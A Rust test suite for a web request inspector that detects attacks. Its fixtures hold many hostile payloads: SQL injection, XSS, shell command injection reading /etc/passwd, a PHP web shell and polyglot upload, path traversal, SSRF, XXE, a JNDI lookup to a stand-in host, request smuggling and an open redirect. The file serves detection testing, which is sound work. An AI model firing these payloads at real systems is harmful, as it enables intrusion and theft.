//! The inspector from outside: one attack and one near miss for each analyser, the same attack in every wrapping,
//! padding, bounds, and hostile input.

use proptest::prelude::*;
use std::io::Read;
use web::{Class, Decision, Inspector, Response, Transaction, Verdict};

fn get(target: &str) -> Transaction {
    let headers = [("Host", "shop.example"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")];
    Transaction {
        method: "GET".into(),
        target: target.into(),
        version: "HTTP/1.1".into(),
        headers: headers.map(|(n, v)| (n.to_owned(), v.to_owned())).into(),
        ..Transaction::default()
    }
}

fn post(kind: &str, body: impl Into<Vec<u8>>) -> Transaction {
    let mut transaction = get("/submit");
    transaction.method = "POST".into();
    transaction.body = body.into();
    if !kind.is_empty() {
        transaction.headers.push(("Content-Type".into(), kind.into()));
    }
    transaction
}

fn encode(value: &str) -> String {
    value.bytes().map(|b| if b.is_ascii_alphanumeric() { (b as char).to_string() } else { format!("%{b:02x}") }).collect()
}

fn base64(value: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    value
        .chunks(3)
        .map(|c| {
            let word = u32::from(c[0]) << 16 | u32::from(*c.get(1).unwrap_or(&0)) << 8 | u32::from(*c.get(2).unwrap_or(&0));
            (0..4).map(|i| if i <= c.len() { ALPHABET[(word >> (18 - 6 * i) & 63) as usize] as char } else { '=' }).collect::<String>()
        })
        .collect()
}

fn inspect(transaction: &Transaction) -> Verdict {
    // Its word automaton takes longer to build than most requests to inspect.
    static INSPECTOR: std::sync::LazyLock<Inspector> = std::sync::LazyLock::new(Inspector::default);
    INSPECTOR.inspect(transaction)
}

fn query(value: &str) -> Verdict {
    inspect(&get(&format!("/s?q={}", encode(value))))
}

/// One attack and one near miss for each class.
const PAIRS: &[(Class, &str, &str)] = &[
    (Class::Sqli, "1' OR '1'='1", "it's either this or that, isn't it?"),
    (Class::Sqli, "-1 UNION ALL SELECT NULL,version()--", "the union will select a new leader"),
    (Class::Sqli, "1;WAITFOR DELAY '0:0:5'--", "please wait for delayed orders"),
    (Class::Sqli, "1/**/AND/**/5487=5487", "rock and roll 1987=best"),
    (Class::Xss, "<img src=x onerror=alert(1)>", "a <b and c> d"),
    (Class::Xss, "\" autofocus onfocus=alert(1) x=\"", "the button on=off position"),
    (Class::Xss, "&#x00003c", "it&#039;s &#60; 5 &#x3e; 3"),
    (Class::Xss, "top[8680439..toString(30)](1)", "desktop[2] (1)"),
    (Class::Sqli, "z'or email notnull--", "o'brien or email -- none"),
    (Class::Sqli, "' or x=y--", "\"wood\" and \"sign\" or \"polka dots\""),
    (Class::Sqli, "select password,login from users", "select shoes from the catalog where the price is low"),
    (Class::Sqli, "drop table users", "drop table tennis from the list"),
    (Class::CommandInjection, "127.0.0.1 | id", "cats | dogs | top 10"),
    (Class::CommandInjection, "x; cat foo/bar", "bread & butter; cat food"),
    (Class::CommandInjection, "a`id`b", "please use `ls -la` to list the files"),
    (Class::Ssrf, "localhost/admin", "localhost is a host"),
    (Class::Xss, "java\tscript:alert(1)", "javascript: the good parts"),
    (Class::CommandInjection, "; cat /etc/passwd", "milk; cat food; dog food"),
    (Class::CommandInjection, "$(whoami)", "$(price)"),
    (Class::CommandInjection, "x|w'h'oami", "fish & chips | peas"),
    (Class::CodeInjection, "<?php system($_GET['c']); ?>", "php developer wanted"),
    (Class::Traversal, "../../../../etc/hosts", "../images/logo.png"),
    (Class::FileInclusion, "php://filter/convert.base64-encode/resource=index", "filter/resource/index"),
    (Class::Ssrf, "http://2852039166/latest/", "http://news.example/latest/"),
    (Class::Ssrf, "gopher://10.0.0.1:6379/_INFO", "gopher tortoise"),
    (Class::TemplateInjection, "{{7*7}}", "{{first_name}}"),
    (Class::ExpressionLanguage, "%{(#_memberAccess['x']=true)}", "100%{ok}"),
    (Class::Xxe, "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///c\">]><a>&b;</a>", "<!DOCTYPE html><p>hi</p>"),
    (Class::Ssi, "<!--#exec cmd=\"ls\"-->", "<!-- exec summary -->"),
    (Class::Ldap, "*)(uid=*))(|(uid=*", "(uid) and (cn)"),
    (Class::Ldap, "userPassword:2.5.13.18:=123", "password: 2.5"),
    (Class::HeaderInjection, "\r\nV100 CAPABILITY\r\nV101 FETCH 4791", "our\r\ncapability list"),
    (Class::Xpath, "' or count(//user)=1 or 'a'='b", "count the users"),
    (Class::HeaderInjection, "a\r\nSet-Cookie: b=c", "first line\r\nsecond line: c"),
    (Class::Deserialisation, "O:8:\"Evil\":1:{s:1:\"a\";i:1;}", "a:1:{s:1:\"a\";i:1;}"),
    (Class::Lookup, "${${lower:j}ndi:${::-l}dap://x.example/a}", "${campaign_name}"),
];

#[test]
fn every_class_is_found_and_its_near_miss_let_through() {
    for (class, attack, near) in PAIRS {
        let verdict = query(attack);
        assert_eq!(verdict.verdict, Decision::Attack, "{attack}: {verdict:#?}");
        assert!(verdict.classes.iter().any(|(c, _)| c == class), "{attack}: {:?}", verdict.classes);
        assert_eq!(query(near).verdict, Decision::Allow, "{near}: {:#?}", query(near));
    }
}

#[test]
fn names_and_keys_are_values_too() {
    let nosql = inspect(&post("application/json", r#"{"user":"a","password":{"$ne":null}}"#));
    assert!(nosql.classes.iter().any(|(c, _)| *c == Class::Nosql), "{nosql:#?}");
    let brackets = inspect(&get("/login?user=a&password[$gt]="));
    assert_eq!(brackets.classes[0].0, Class::Nosql);
    let pollution = inspect(&post("application/json", r#"{"__proto__":{"admin":true}}"#));
    assert_eq!(pollution.classes[0].0, Class::PrototypePollution);
    assert_eq!(inspect(&post("application/json", r#"{"price":{"net":1},"proto":"tcp"}"#)).verdict, Decision::Allow);
}

#[test]
fn the_same_attack_is_found_in_every_wrapping() {
    let attack = "1' UNION SELECT password FROM users-- ";
    let quoted = serde_json::to_string(attack).unwrap();
    let nested = serde_json::to_string(&format!("{{\"a\":{quoted}}}")).unwrap();
    let mut gzipped = Vec::new();
    let json = format!("{{\"a\":{quoted}}}");
    flate2::read::GzEncoder::new(json.as_bytes(), flate2::Compression::fast()).read_to_end(&mut gzipped).unwrap();
    let mut compressed = post("application/json", gzipped);
    compressed.headers.push(("Content-Encoding".into(), "gzip".into()));
    let mut cookie = get("/");
    cookie.headers.push(("Cookie".into(), format!("a=b; session={}", encode(attack))));
    let mut header = get("/");
    header.headers.push(("X-Forwarded-For".into(), attack.into()));
    let part = |content: &str| format!("--B\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{content}\r\n--B--\r\n");
    let cases = [
        (get(&format!("/s?q={}", encode(attack))), "query:q"),
        (get(&format!("/s?q={}", encode(&encode(&encode(attack))))), "query:q"),
        (get(&format!("/s?q={}", encode(&base64(attack.as_bytes())))), "query:q"),
        (get(&format!("/s?q={}", attack.bytes().map(|b| format!("{b:02x}")).collect::<String>())), "query:q"),
        (get(&format!("/s/{}", encode(attack))), "path"),
        (cookie, "cookie:session"),
        (header, "header:x-forwarded-for"),
        (post("application/x-www-form-urlencoded", format!("a=1&q={}", encode(attack))), "body:form:q"),
        (post("application/json", json.clone()), "body:json:$.a"),
        (post("application/json", format!("{{\"b\":{nested}}}")), "body:json:$.b:json:$.a"),
        (post("text/plain", json.clone()), "body:json:$.a"),
        (post("", json), "body:json:$.a"),
        (compressed, "body:json:$.a"),
        (post("multipart/form-data; boundary=B", part(attack)), "multipart:q"),
        (post("multipart/form-data; boundary=wrong", part(attack)), "multipart:q"),
        (post("text/xml", format!("<?xml version=\"1.0\"?><a><q>{attack}</q></a>")), "body:xml:q"),
        (post("application/octet-stream", attack), "body"),
    ];
    for (transaction, location) in cases {
        let verdict = inspect(&transaction);
        assert_eq!(verdict.verdict, Decision::Attack, "{location}: {verdict:#?}");
        assert!(verdict.findings.iter().any(|f| f.location == location && f.class == Class::Sqli), "{location}: {:#?}", verdict.findings);
    }
}

#[test]
fn the_chain_of_decodings_is_told() {
    let verdict = query(&base64(b"<script>alert(1)</script>"));
    assert_eq!(verdict.findings[0].chain.last(), Some(&"base64"), "{verdict:#?}");
    assert!(verdict.findings[0].value.contains("<script>"));
    assert_eq!((verdict.findings[0].cwe, verdict.findings[0].technique), ("CWE-79", "T1059.007"));
}

#[test]
fn padding_neither_hides_nor_adds() {
    for padding in ["a".repeat(128 << 10), "lorem ipsum, dolor. ".repeat(6_500)] {
        let attack = format!("{padding} <script>alert(1)</script>");
        let form = post("application/x-www-form-urlencoded", format!("q={}", encode(&attack)));
        let json = post("application/json", format!("{{\"pad\":\"{padding}\",\"q\":\"1' OR '1'='1\"}}"));
        for transaction in [form, json] {
            let verdict = inspect(&transaction);
            assert_eq!(verdict.verdict, Decision::Attack);
            assert!(verdict.truncated.is_empty(), "{:?}", verdict.truncated);
        }
        let benign = inspect(&post("application/json", format!("{{\"pad\":\"{padding}\"}}")));
        assert_eq!((benign.verdict, benign.findings.len()), (Decision::Allow, 0));
    }
}

#[test]
fn uploads_are_judged_by_content_and_name() {
    let file = |name: &str, kind: &str, content: &str| {
        let body = format!("--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\nContent-Type: {kind}\r\n\r\n{content}\r\n--B--\r\n");
        inspect(&post("multipart/form-data; boundary=B", body))
    };
    let double = file("holiday.php.jpg", "image/jpeg", "x");
    assert_eq!((double.classes[0].0, double.findings[0].location.as_str()), (Class::Upload, "multipart:file:f"));
    let polyglot = file("a.gif", "image/gif", "GIF89a<?php system($_GET[0]);?>");
    assert_eq!(polyglot.classes[0].0, Class::Upload);
    assert_eq!(file("notes.txt", "text/plain", "SELECT the best <b>photo</b> and cat /etc/motd").verdict, Decision::Allow);
}

#[test]
fn what_a_bound_cuts_off_is_told() {
    let many: String = (0..6_000).map(|i| format!("a{i}=b{i}&")).collect();
    let verdict = inspect(&post("application/x-www-form-urlencoded", many));
    assert!(verdict.truncated.iter().any(|note| note.starts_with("values")), "{:?}", verdict.truncated);
    let costly = "' or <a (;|`$(x ".repeat(40_000);
    assert!(inspect(&post("text/plain", costly)).truncated.iter().any(|note| note.starts_with("work")));
}

#[test]
fn policy_is_no_attack() {
    let mut transaction = get("/");
    transaction.method = "PROPFIND".into();
    transaction.headers.clear();
    let verdict = inspect(&transaction);
    assert_eq!(verdict.verdict, Decision::Allow);
    assert_eq!(verdict.policy, ["method: not one of the usual", "host: missing", "user-agent: missing"]);
}

#[test]
fn smuggling_scanners_and_leaks_are_found() {
    let mut smuggled = post("text/plain", "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: x\r\n\r\n");
    smuggled.headers.push(("Transfer-Encoding".into(), "xchunked".into()));
    assert_eq!(inspect(&smuggled).classes[0].0, Class::Smuggling);
    let mut scanner = get("/");
    scanner.headers[1].1 = "sqlmap/1.8#stable (https://sqlmap.org)".into();
    assert_eq!(inspect(&scanner).classes[0].0, Class::Scanner);
    let mut leaking = get("/item?id=1");
    leaking.response = Some(Response { status: 500, headers: vec![], body: b"You have an error in your SQL syntax near".to_vec() });
    assert_eq!(inspect(&leaking).classes[0].0, Class::Leak);
    let mut redirected = get("/go?to=https://evil.example/x");
    redirected.response = Some(Response { status: 302, headers: vec![("Location".into(), "https://evil.example/x".into())], body: vec![] });
    assert_eq!(inspect(&redirected).classes[0].0, Class::OpenRedirect);
}

#[test]
fn files_of_all_formats_are_read() {
    let read = |bytes: &[u8]| {
        let mut items = Vec::new();
        web::read::items(bytes, &mut |item| items.push(item)).unwrap();
        items
    };
    let lines = read(b"{\"id\":\"a\",\"uri\":\"/x\",\"label\":1,\"headers\":[[\"Host\",\"h\"]],\"body_b64\":\"YWI=\"}\n{\"method\":1}\n");
    let first = lines[0].as_ref().unwrap();
    assert_eq!((first.id.as_str(), first.label, first.transaction.body.as_slice()), ("a", Some(true), &b"ab"[..]));
    assert!(matches!(&lines[1], Err(web::read::ReadError::Line { line: 2, .. })));
    let raw = read(b"POST /a HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nab\r\n1\r\nc\r\n0\r\n\r\nGET /b HTTP/1.1\r\nHost: h\r\n\r\n");
    assert_eq!(raw[0].as_ref().unwrap().transaction.body, b"abc");
    assert_eq!(raw[1].as_ref().unwrap().transaction.target, "/b");
    let har = read(br#"{"log":{"entries":[{"request":{"method":"GET","url":"https://h/x?y=1","headers":[]},"response":{"status":200}}]}}"#);
    assert_eq!(har[0].as_ref().unwrap().transaction.header("host"), Some("h"));
    assert!(web::read::items(b"hello", &mut |_| {}).is_err());
}

#[test]
fn training_is_the_same_for_the_same_seed() {
    let item = |target: &str, label| web::read::Item { label: Some(label), source: "t".into(), transaction: get(target), ..Default::default() };
    let train = |seed| {
        let mut trainer = web::train::Trainer::default();
        for i in 0..200 {
            trainer.add(&item(&format!("/s?q=(shutter{i}%3b%3b)"), true));
            trainer.add(&item(&format!("/s?q=plain({i})"), false));
        }
        trainer.finish(web::train::Settings { seed, ..Default::default() })
    };
    let (model, card) = train(1);
    assert_eq!(card.sha256, train(1).1.sha256);
    assert_ne!(card.sha256, train(2).1.sha256);
    assert!(model.score(b"(shutter9;;)", 0.0).0 > model.score(b"plain(9)", 0.0).0);
}

/// Nothing takes longer per byte when it is longer: the budget, which counts units, sees to it.
#[test]
fn hostile_texts_end() {
    for seed in ["<", "'", "((", "${", "../", "%25", "{\"a\":", "\\u005c", "&#60;", "--B\r\n", "[]()!+", "o:1:\"", "a=b&", "union select ", "/*", "'or'", ";ls|", "{{", "on=", "javascript:", "//1."] {
        let text = seed.repeat((256 << 10) / seed.len());
        for transaction in [post("", text.as_bytes()), post("application/json", format!("{{\"a\":{}}}", serde_json::to_string(&text).unwrap())), post("multipart/form-data; boundary=B", text.as_bytes())] {
            let started = std::time::Instant::now();
            let _ = inspect(&transaction);
            // Ten times the aim: the machine is shared while tests run, and a quadratic analyser takes minutes.
            assert!(started.elapsed().as_millis() < 400, "{seed}: {:?}", started.elapsed());
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn nothing_panics(target in "\\PC*", name in "\\PC{0,20}", value in "\\PC*", kind in "(multipart/form-data; boundary=.|application/json|text/xml|)", body in proptest::collection::vec(any::<u8>(), 0..400)) {
        let mut transaction = post(&kind, body);
        transaction.target = target;
        transaction.headers.push((name, value));
        let mut verdict = inspect(&transaction);
        prop_assert!((0.0..=1.0).contains(&verdict.score));
        // What stands around the inspector takes the same.
        web::values(&transaction, &mut |_, _| {});
        let guard = web::Guard::new(&web::Profile::default()).unwrap();
        let client = web::guard::Client { ip: guard.client_ip([192, 0, 2, 1].into(), &transaction.headers), route: None, now: web::Timestamp(0) };
        guard.decide(&transaction, &verdict, client);
        let mut baseline = web::baseline::Baseline::new(Default::default(), 1);
        baseline.learn(&transaction, &verdict, None, client.ip, client.now);
        baseline.adjust(&transaction, &mut verdict, None);
        let mut redacted = transaction.clone();
        guard.redactor().transaction(&mut redacted);
        let once = redacted.clone();
        guard.redactor().transaction(&mut redacted);
        prop_assert_eq!(once, redacted);
        let request = web::wire::Request { transaction, ..Default::default() };
        web::dga::score(&request.transaction.target);
    }

    #[test]
    fn nothing_panics_near_attacks(pieces in proptest::collection::vec(prop_oneof![
        Just("<"), Just("'"), Just("\""), Just("("), Just(")"), Just("/*"), Just("*/"), Just("--"), Just("select"), Just("union"), Just(" or "), Just("="), Just("${"), Just("}"), Just("{{"), Just("|"), Just(";"), Just("$("), Just("`"), Just("cat "), Just("../"), Just("0x"), Just("on"), Just("javascript:"), Just("%"), Just("\\"), Just("\u{fffd}"), Just("&#"), Just("//"), Just("["), Just("]"), Just("@@"), Just("\0"), Just("\n"), Just("1"), Just("o:"), Just("char("), Just("<!entity"), Just("{%"), Just("case when "),
    ], 0..40)) {
        let text: String = pieces.concat();
        query(&text);
        inspect(&post("", text.clone()));
        inspect(&get(&text));
    }
}

/// A body that begins with `<` and holds a `</` by chance, with all that analysers of texts look for.
#[test]
fn bytes_that_are_no_text_are_no_markup() {
    let mut state = 7_u64;
    let mut body = b"<".to_vec();
    while body.len() < 60_000 {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        body.extend_from_slice(&state.to_be_bytes()[..4]);
        if body.len() % 5_000 < 4 {
            body.extend_from_slice(b"<a>\x033\x1f\"#=</a><b>Mg1t\x00.Qa</b>");
        }
    }
    let transaction = web::Transaction {
        method: "POST".into(),
        target: "/raw".into(),
        headers: vec![("host".into(), "a".into()), ("content-type".into(), "application/octet-stream".into())],
        body,
        ..Default::default()
    };
    let verdict = web::Inspector::default().inspect(&transaction);
    assert_eq!(verdict.verdict, web::Decision::Allow, "{:?}", verdict.findings);
}
